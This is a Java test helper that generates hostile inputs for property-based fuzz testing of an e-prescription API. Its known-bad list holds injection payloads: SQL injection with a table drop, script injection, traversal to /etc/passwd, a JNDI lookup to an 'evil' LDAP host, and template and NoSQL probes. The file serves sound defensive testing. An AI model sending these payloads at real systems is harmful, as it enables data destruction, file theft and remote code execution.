package org.eprescription.api.hostile;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

import java.util.List;

/** What an attacker or a broken client puts where the API expects a value: generators for the hostile-input test. */
final class HostileValues {

    static final List<String> KNOWN_BAD = List.of(
            "", " ", "\u0000", "PAT\u0000-1", "\t\r\n", "' OR '1'='1' --", "'; DROP TABLE domainevententry; --",
            "<script>alert(1)</script>", "../../../../etc/passwd", "%00", "%2e%2e%2f", "${jndi:ldap://evil/x}",
            "{{7*7}}", "\uD800", "\uFFFF", "\u202Eevil", "A".repeat(70_000), "9".repeat(400), "-1", "1e309", "NaN",
            "2026-02-30", "+999999999-12-31", "null", "true", "[]", "{}", "0x7fffffff");

    private HostileValues() {
    }

    /** Text of any kind: any Unicode (control characters and lone surrogates too), or a known-bad value. */
    static Arbitrary<String> text() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(300),
                Arbitraries.strings().ascii().ofMaxLength(80),
                Arbitraries.of(KNOWN_BAD));
    }

    /** A JSON value as raw text: text, extreme numbers, wrong types, deep nesting. */
    static Arbitrary<String> rawJsonValue() {
        return Arbitraries.oneOf(
                text().map(HostileValues::quoted),
                Arbitraries.of("0", "-1", "2147483648", "-9223372036854775809", "1e309", "-1e-400", "0.0000001",
                        "99999999999999999999999999999999", "true", "false", "null", "[]", "{}", "[null]",
                        "{\"$gt\": \"\"}", "[".repeat(2_000) + "]".repeat(2_000)),
                Arbitraries.integers().map(String::valueOf),
                Arbitraries.doubles().map(String::valueOf));
    }

    static String quoted(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> json.append("\\\"");
                case '\\' -> json.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        json.append(String.format("\\u%04x", (int) c));
                    } else {
                        json.append(c);
                    }
                }
            }
        }
        return json.append('"').toString();
    }
}
